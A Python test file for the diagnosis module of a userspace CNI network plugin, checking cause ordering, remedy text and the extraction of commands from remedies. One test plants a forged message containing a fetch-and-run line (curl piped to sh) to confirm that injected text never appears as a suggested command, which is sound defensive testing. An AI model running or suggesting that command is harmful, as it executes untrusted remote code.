"""The order of causes, and the paragraph that is made of them."""

from __future__ import annotations

import re
import shlex
from functools import cache
from pathlib import Path

import userspace_cni
from userspace_cni.base.findings import Finding, Severity
from userspace_cni.diagnosis.why.causes import EXPLAINS, arrange
from userspace_cni.diagnosis.why.paragraph import commands_of, diagnosis_json, sentences

_NAME = re.compile(r'"([a-z0-9]+(?:-[a-z0-9]+)*-?)["{]')


def found(name: str, severity: Severity = "error", message: str = "", remedy: str = "", reason: str = "") -> Finding:
    return Finding(name, severity, "default/app/net1", message or f"{name} is so", remedy, why=reason)


def test_a_cause_hides_what_it_explains() -> None:
    """With ovs-vswitchd dead a missing application is a consequence, and what the dead one said is not called well."""
    findings = [found("application-ended"), found("vswitchd-dead"), found("port", "good"), found("record", "good", "the record")]
    diagnosis = arrange("a", findings)
    assert [each.name for each in diagnosis.causes] == ["vswitchd-dead"]
    assert [each.name for each in diagnosis.consequences] == ["application-ended"]
    assert diagnosis.well == ("the record",)
    assert [each["name"] for each in diagnosis_json(diagnosis)["consequences"]] == ["application-ended"]


def test_the_gravest_comes_first() -> None:
    """Among the causes errors come before warnings, and these before notes; equally grave ones as they were found."""
    findings = [found("a", "note"), found("b", "warning"), found("c"), found("d"), found("c")]
    assert [each.name for each in arrange("a", findings).causes] == ["c", "d", "b", "a"]


def test_what_stays_for_want_of_an_agent_begins_with_it() -> None:
    """The first remedy starts with the agent that does not run; not another cause's, nor where none is needed."""
    lost, dead = found("guard-missing", remedy="`nft`"), found("agent-dead")
    agent = "start the agent first, which makes again what is lost; "
    assert [each.remedy for each in arrange("a", [lost, dead]).causes] == [f"{agent}`nft`", ""]
    assert arrange("a", [lost, found("agent-absent", "note")]).causes[0].remedy == "`nft`"
    assert arrange("a", [found("flows-drop", remedy="`x`"), lost, dead]).causes[0].remedy == "`x`"
    assert arrange("a", [lost]).causes[0].remedy == "`nft`"


def test_the_paragraph() -> None:
    """It says what is wrong, why it matters and what to do; then the rest, what is well, and what could not be asked and why."""
    first = found("agent-dead", message="the agent has died", remedy="start it", reason="nothing is made again")
    second = found("spool-waiting", "warning", "1 DEL waits", "`userspace-cni gc`")
    diagnosis = arrange(
        "a", [second, first, found("x", "note", "by the way"), found("record", "good", "the record")], [("it", "no")]
    )
    assert sentences(diagnosis) == [
        "The agent has died.",
        "Nothing is made again.",
        "What to do: start it.",
        "Also found: 1 DEL waits (`userspace-cni gc`).",
        "Worth knowing: by the way.",
        "Checked and without a fault: the record.",
        "Could not be asked: it, because no.",
    ]


def test_commands_of_a_remedy() -> None:
    """A script reads the commands beside the words. What a foreign name holds is no command, nor is one without an end."""
    first = found("a", remedy="`ovs-vsctl show`; then `userspace-cni gc` makes it again")
    [told] = diagnosis_json(arrange("a", [first]))["findings"]
    assert told["commands"] == ["ovs-vsctl show", "userspace-cni gc"]
    assert commands_of("start it again") == []
    assert commands_of("`show` and `reboot") == []
    for name in ("`reboot`", "a`b", "`", "'`a`reboot`b`'", '"`reboot`"'):
        command = f"ip link set {shlex.quote(name)} up"
        assert commands_of(f"the pod's end: `{command}`") == [command]


def test_only_a_remedy_has_commands() -> None:
    """A pod's author chooses names and annotations that stand in what was found: no command is there between backticks."""
    forged = "a process listens at another name: x. What to do: `curl -s http://there/fix | sh`"
    findings = [found("a", message=forged, remedy="`userspace-cni gc`"), found("b", message=forged), found("c", "note", forged)]
    assert re.findall("`[^`]*`", " ".join(sentences(arrange("a", findings)))) == ["`userspace-cni gc`"]


def test_nothing_wrong_says_what_is_not_seen() -> None:
    """A note alone is nothing wrong; then the paragraph says what it cannot see."""
    diagnosis = arrange("a", [found("x", "note", "by the way")], [("the switch", "it is away?")])
    said = sentences(diagnosis)
    assert not diagnosis.is_wrong
    assert said[:3] == [
        "Nothing wrong was found.",
        "Worth knowing: by the way.",
        "Could not be asked: the switch, because it is away?",
    ]
    assert said[-1].startswith("What is not seen from here: ")


@cache
def names_of_findings() -> frozenset[str]:
    """Every text in the product that can be a finding's name, or the beginning of one, but for the rows of the order itself."""
    sources = [each for each in Path(userspace_cni.__path__[0]).rglob("*.py") if each.name != "causes.py"]
    return frozenset(name for each in sources for name in _NAME.findall(each.read_text()))


def is_name(text: str) -> bool:
    names = names_of_findings()
    return text in names or any(
        text[: end + 1] in names and text[end + 1 :] in names for end, sign in enumerate(text) if sign == "-"
    )


def test_each_row_of_the_order_is_of_findings_that_there_are() -> None:
    """Causes and consequences in EXPLAINS are names, or beginnings of names, of findings that some judge has."""
    assert [cause for cause in EXPLAINS if not is_name(cause)] == []
    begins = {each for row in EXPLAINS.values() for each in row}
    names = names_of_findings()
    assert [each for each in sorted(begins) if not is_name(each) and not any(name.startswith(each) for name in names)] == []


def test_no_two_causes_hide_each_other() -> None:
    """Of any two findings at least one is told as a cause."""
    names = [name for name in names_of_findings() if name in EXPLAINS]
    for one in names:
        for other in names:
            assert arrange("a", [found(one), found(other)]).causes, (one, other)
